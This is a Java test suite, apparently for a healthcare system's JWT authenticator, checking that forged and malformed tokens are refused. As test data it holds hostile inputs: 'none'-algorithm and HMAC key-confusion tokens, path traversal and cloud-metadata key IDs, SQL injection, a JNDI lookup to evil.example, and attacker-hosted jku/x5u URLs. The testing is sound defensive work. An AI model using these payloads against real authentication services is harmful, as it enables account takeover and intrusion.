package health.cordon.access.jwt;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.jwk.RSAKey;
import health.cordon.access.AccessError;
import health.cordon.access.Authentication;
import health.cordon.access.Authentication.Authenticated;
import health.cordon.access.Authentication.Refused;
import health.cordon.access.Credentials;
import health.cordon.access.MovingClock;
import health.cordon.access.Role;
import health.cordon.access.SignInFailure;
import health.cordon.access.memory.MemoryRecordStore;
import health.cordon.core.Cfr;
import health.cordon.core.error.CordonException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.Map;
import java.util.Set;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Every token that someone might try. */
@Cfr("164.312(d)")
class AdversarialTokenTest {

    private final MovingClock clock = MovingClock.atNow();
    private final JwtSettings agreed =
            JwtSettings.standard(Provider.ISSUER, Provider.AUDIENCE, Map.of("md", Role.CLINICIAN));
    private final JwtAuthenticator authenticator = authenticator(agreed);

    private JwtAuthenticator authenticator(JwtSettings settings) {
        return new JwtAuthenticator(
                settings, VerificationKeys.of(Provider.jwks()), new MemoryRecordStore<>(clock, 100), clock);
    }

    private String good() {
        return Provider.claims(clock.instant());
    }

    private Authentication shown(String token) {
        return authenticator.authenticate(Credentials.Bearer.of(token));
    }

    private void refused(String token, SignInFailure why) {
        assertThat(shown(token)).isEqualTo(new Refused(why));
    }

    @Test
    void bothAlgorithmsSignInWithTheRolesThatAreAgreed() {
        for (String token : new String[] {Provider.rs256(good()), Provider.es256(good())}) {
            assertThat(shown(token)).isInstanceOfSatisfying(Authenticated.class, someone -> {
                assertThat(someone.principal().id()).isEqualTo("ana");
                assertThat(someone.principal().roles()).containsExactly(Role.CLINICIAN);
                assertThat(someone.principal().multiFactor()).isTrue();
                assertThat(someone.credential()).isEqualTo("t-1");
                assertThat(someone.until()).isEqualTo(clock.instant().plusSeconds(300));
            });
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "none", "None", "NONE", "nOnE", "", "HS256", "HS512", "RS384", "PS256", "ES384", "EdDSA", "RS256 "
            })
    void anAlgorithmThatWasNotAgreedIsRefusedWhateverIsSigned(String algorithm) {
        String header = "{\"alg\":\"" + algorithm + "\",\"kid\":\"rsa-1\"}";
        refused(Provider.signed(header, good(), Provider.RSA), SignInFailure.WRONG_ALGORITHM);
        refused(Provider.part(header) + "." + Provider.part(good()) + ".", SignInFailure.WRONG_ALGORITHM);
    }

    @Test
    void thePublicKeyIsNoHmacSecret() throws Exception {
        String header = Provider.header(JWSAlgorithm.HS256, "rsa-1");
        String input = Provider.part(header) + "." + Provider.part(good());
        RSAKey key = Provider.RSA.toPublicJWK();
        byte[][] secrets = {
            key.toRSAPublicKey().getEncoded(),
            ("-----BEGIN PUBLIC KEY-----\n"
                            + Base64.getMimeEncoder(64, new byte[] {'\n'})
                                    .encodeToString(key.toRSAPublicKey().getEncoded())
                            + "\n-----END PUBLIC KEY-----\n")
                    .getBytes(StandardCharsets.US_ASCII),
            key.toJSONString().getBytes(StandardCharsets.UTF_8)
        };
        for (byte[] secret : secrets) {
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(secret, "HmacSHA256"));
            String signature = Base64.getUrlEncoder()
                    .withoutPadding()
                    .encodeToString(mac.doFinal(input.getBytes(StandardCharsets.US_ASCII)));
            refused(input + "." + signature, SignInFailure.WRONG_ALGORITHM);
            // The same signature under a header that claims an agreed algorithm.
            String lying = Provider.part(Provider.header(JWSAlgorithm.RS256, "rsa-1")) + "." + Provider.part(good())
                    + "." + signature;
            refused(lying, SignInFailure.BAD_PROOF);
        }
    }

    @Test
    void aKeyOfOneAlgorithmServesNoOther() {
        refused(
                Provider.signed(Provider.header(JWSAlgorithm.ES256, "rsa-1"), good(), Provider.EC),
                SignInFailure.UNKNOWN_KEY);
        refused(
                Provider.signed(Provider.header(JWSAlgorithm.RS256, "ec-1"), good(), Provider.RSA),
                SignInFailure.UNKNOWN_KEY);
        JwtSettings onlyRsa = new JwtSettings(
                "oidc",
                agreed.issuer(),
                agreed.audience(),
                Set.of("RS256"),
                agreed.clockSkew(),
                agreed.longestLife(),
                "sub",
                "roles",
                agreed.roles(),
                agreed.kind(),
                false);
        assertThat(authenticator(onlyRsa).authenticate(Credentials.Bearer.of(Provider.es256(good()))))
                .isEqualTo(new Refused(SignInFailure.WRONG_ALGORITHM));
    }

    @Test
    void aSignatureOfZerosIsNone() {
        String input = Provider.part(Provider.header(JWSAlgorithm.ES256, "ec-1")) + "." + Provider.part(good());
        String zeros = Base64.getUrlEncoder().withoutPadding().encodeToString(new byte[64]);
        refused(input + "." + zeros, SignInFailure.BAD_PROOF);
    }

    @Test
    void anotherKeyUnderTheSameIdIsRefused() {
        refused(
                Provider.signed(Provider.header(JWSAlgorithm.RS256, "rsa-1"), good(), Provider.rsa("rsa-1")),
                SignInFailure.BAD_PROOF);
        refused(
                Provider.signed(Provider.header(JWSAlgorithm.ES256, "ec-1"), good(), Provider.ec("ec-1")),
                SignInFailure.BAD_PROOF);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../../etc/passwd",
                "/dev/null",
                "file:///etc/passwd",
                "http://169.254.169.254/latest/meta-data",
                "rsa-1'--",
                "'OR'1'='1",
                "x';DROP/**/TABLE/**/keys;--",
                "${jndi:ldap://evil.example/a}",
                "%00rsa-1",
                "RSA-1"
            })
    void aKeyIdIsAWordToCompareAndNothingElse(String keyId) {
        refused(
                Provider.signed(Provider.header(JWSAlgorithm.RS256, keyId), good(), Provider.RSA),
                SignInFailure.UNKNOWN_KEY);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "rsa 1", "rsa-1\\u0000", "rsa-1\\n", "\\u202Ersa-1"})
    void aKeyIdIsPrintable(String keyId) {
        refused(
                Provider.signed(Provider.header(JWSAlgorithm.RS256, keyId), good(), Provider.RSA),
                SignInFailure.MALFORMED);
    }

    @Test
    void aTokenWithoutAKeyIdOrWithALongOneIsMalformed() {
        refused(Provider.signed("{\"alg\":\"RS256\"}", good(), Provider.RSA), SignInFailure.MALFORMED);
        refused(
                Provider.signed("{\"alg\":\"RS256\",\"kid\":[\"rsa-1\"]}", good(), Provider.RSA),
                SignInFailure.MALFORMED);
        refused(
                Provider.signed(Provider.header(JWSAlgorithm.RS256, "k".repeat(129)), good(), Provider.RSA),
                SignInFailure.MALFORMED);
    }

    @Test
    void aTokenMayNotBringItsOwnKeyNorItsOwnRules() {
        RSAKey own = Provider.rsa("own");
        String[] parameters = {
            "\"jwk\":" + own.toPublicJWK().toJSONString(),
            "\"jku\":\"https://evil.example/jwks\"",
            "\"x5u\":\"https://evil.example/cert\"",
            "\"x5c\":[\"AAAA\"]",
            "\"crit\":[\"exp\"]",
            "\"b64\":false,\"crit\":[\"b64\"]",
            "\"zip\":\"DEF\"",
            "\"cty\":\"JWT\"",
            "\"typ\":\"logout+jwt\"",
            "\"typ\":7"
        };
        for (String parameter : parameters) {
            String header = "{\"alg\":\"RS256\",\"kid\":\"rsa-1\"," + parameter + "}";
            refused(Provider.signed(header, good(), own), SignInFailure.MALFORMED);
            refused(Provider.signed(header, good(), Provider.RSA), SignInFailure.MALFORMED);
        }
    }

    @Test
    void doubledKeysAreRefusedInHeaderAndClaims() {
        String header = "{\"alg\":\"RS256\",\"alg\":\"none\",\"kid\":\"rsa-1\"}";
        refused(Provider.signed(header, good(), Provider.RSA), SignInFailure.MALFORMED);
        String claims = Provider.claims(clock.instant(), "\"sub\":\"root\"");
        refused(Provider.rs256(claims), SignInFailure.MALFORMED);
        String escaped = Provider.claims(clock.instant(), "\"\\u0073ub\":\"root\"");
        refused(Provider.rs256(escaped), SignInFailure.MALFORMED);
    }

    @Test
    void timesAreKeptToTheSkewAndNoFurther() {
        long now = clock.instant().getEpochSecond();
        refusedWith("\"exp\":" + (now - 60), SignInFailure.EXPIRED);
        acceptedWith("\"exp\":" + (now - 59));
        refusedWith("\"exp\":0", SignInFailure.EXPIRED);
        refusedWith("\"exp\":" + (now + 300) + ",\"nbf\":" + (now + 61), SignInFailure.NOT_YET_VALID);
        acceptedWith("\"exp\":" + (now + 300) + ",\"nbf\":" + (now + 60));
        refusedWith("\"exp\":" + (now + 300) + ",\"iat\":" + (now + 61), SignInFailure.NOT_YET_VALID);
        refusedWith("\"exp\":" + (now + 90_000), SignInFailure.MALFORMED);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"sub2\":1",
                "\"exp\":\"soon\"",
                "\"exp\":null",
                "\"exp\":-1",
                "\"exp\":1e300",
                "\"exp\":99999999999999999999999999"
            })
    void aTokenWithoutAReadableEndIsMalformed(String exp) {
        refusedWith(exp, SignInFailure.MALFORMED);
    }

    private void refusedWith(String times, SignInFailure why) {
        refused(Provider.rs256(bare(times)), why);
    }

    private void acceptedWith(String times) {
        assertThat(shown(Provider.rs256(bare(times)))).isInstanceOf(Authenticated.class);
    }

    private static String bare(String times) {
        return "{\"iss\":\"" + Provider.ISSUER + "\",\"aud\":\"" + Provider.AUDIENCE + "\",\"sub\":\"ana\"," + times
                + "}";
    }

    @Test
    void issuerAndAudienceAreComparedWhole() {
        String claims = good();
        for (String issuer : new String[] {
            "https://idp.example.org/", "https://idp.example.org.evil.example", "HTTPS://idp.example.org", ""
        }) {
            refused(
                    Provider.rs256(claims.replace("\"" + Provider.ISSUER + "\"", "\"" + issuer + "\"")),
                    SignInFailure.WRONG_ISSUER);
        }
        refused(
                Provider.rs256(claims.replace("\"" + Provider.ISSUER + "\"", "[\"" + Provider.ISSUER + "\"]")),
                SignInFailure.WRONG_ISSUER);
        refused(Provider.rs256(claims.replace(",\"cordon\"]", "]")), SignInFailure.WRONG_AUDIENCE);
        refused(Provider.rs256(claims.replace("\"cordon\"", "\"cordon2\"")), SignInFailure.WRONG_AUDIENCE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"\"",
                "\" ana\"",
                "\"ana\\u0000\"",
                "\"ana\\nrole: admin\"",
                "\"\\uD800\"",
                "7",
                "null",
                "[\"ana\"]",
                "\"\\u202Eana\""
            })
    void aSubjectThatIsNoIdIsNobody(String subject) {
        refused(Provider.rs256(good().replace("\"sub\":\"ana\"", "\"sub\":" + subject)), SignInFailure.MALFORMED);
    }

    @Test
    void aRoleThatWasNotAgreedIsNoneAndBreakGlassCannotBeAgreed() {
        Authentication nobody = shown(Provider.rs256(good().replace("\"md\"", "\"break-glass\",\"security-officer\"")));
        assertThat(nobody)
                .isInstanceOfSatisfying(
                        Authenticated.class,
                        someone -> assertThat(someone.principal().roles()).isEmpty());
        assertThatThrownBy(
                        () -> JwtSettings.standard(Provider.ISSUER, Provider.AUDIENCE, Map.of("x", Role.BREAK_GLASS)))
                .isInstanceOfSatisfying(
                        CordonException.class, e -> assertThat(e.code()).isEqualTo(AccessError.BAD_SETTING));
    }

    @Test
    void aTokenForOneUseIsRefusedTheSecondTimeHoweverItIsWritten() {
        JwtAuthenticator once = authenticator(agreed.usedOnce());
        String token = Provider.es256(good());
        assertThat(once.authenticate(Credentials.Bearer.of(token))).isInstanceOf(Authenticated.class);
        assertThat(once.authenticate(Credentials.Bearer.of(token))).isEqualTo(new Refused(SignInFailure.REPLAYED));
        // Another signature over the same claims is the same token.
        assertThat(once.authenticate(Credentials.Bearer.of(Provider.es256(good()))))
                .isEqualTo(new Refused(SignInFailure.REPLAYED));
        assertThat(once.authenticate(Credentials.Bearer.of(Provider.rs256(Provider.claims(clock.instant(), "")))))
                .isEqualTo(new Refused(SignInFailure.MALFORMED));
        clock.move(Duration.ofMinutes(6));
        assertThat(once.authenticate(Credentials.Bearer.of(token))).isEqualTo(new Refused(SignInFailure.EXPIRED));
    }

    @Test
    void whereUsedTokensCannotBeRememberedNoneIsAccepted() {
        JwtAuthenticator once = new JwtAuthenticator(
                agreed.usedOnce(), VerificationKeys.of(Provider.jwks()), new MemoryRecordStore<>(clock, 1), clock);
        assertThat(once.authenticate(Credentials.Bearer.of(Provider.rs256(good()))))
                .isInstanceOf(Authenticated.class);
        String second = Provider.rs256(Provider.claims(clock.instant(), "\"jti\":\"t-2\""));
        assertThatThrownBy(() -> once.authenticate(Credentials.Bearer.of(second)))
                .isInstanceOfSatisfying(
                        CordonException.class, e -> assertThat(e.code()).isEqualTo(AccessError.STORE_FULL));
    }

    @Test
    void aTokenHasOneFormOnly() {
        String token = Provider.rs256(good());
        String signature = token.substring(token.lastIndexOf('.') + 1);
        refused(token + "=", SignInFailure.MALFORMED);
        refused(token + ".", SignInFailure.MALFORMED);
        refused(token + "." + signature, SignInFailure.MALFORMED);
        refused(token.replace('.', ' ').replaceFirst(" ", "."), SignInFailure.MALFORMED);
        refused(token.substring(0, token.length() - 2), SignInFailure.BAD_PROOF);
        refused(token.substring(0, token.lastIndexOf('.') + 1), SignInFailure.MALFORMED);
        refused(token.replaceFirst("\\.", ".\n"), SignInFailure.MALFORMED);
        refused(Provider.rs256(good() + "{}"), SignInFailure.MALFORMED);
        refused(Provider.rs256("[".repeat(5000)), SignInFailure.MALFORMED);
    }

    @Test
    void aTokenOfAnySizeIsRefusedBeforeItIsRead() {
        refused("eyJ" + "A".repeat(20_000_000) + ".A.A", SignInFailure.TOO_LONG);
        refused("eyJ." + ".".repeat(15_000), SignInFailure.MALFORMED);
        refused(
                Provider.rs256(Provider.claims(clock.instant(), "\"pad\":\"" + "x".repeat(16_000) + "\"")),
                SignInFailure.TOO_LONG);
    }

    @Test
    void whatIsNoTokenIsForOthers() {
        String list = Provider.signed("[" + Provider.header(JWSAlgorithm.RS256, "rsa-1") + "]", good(), Provider.RSA);
        for (String other : new String[] {"", "abc", "cordon_x", "ey", "eyJ", list}) {
            assertThat(shown(other)).isInstanceOf(Authentication.NotMine.class);
        }
    }

    @Test
    void nothingThatIsPrintedHoldsTheToken() {
        String token = Provider.rs256(good());
        assertThat(Credentials.Bearer.of(token).toString()).doesNotContain(token.substring(0, 8));
    }
}
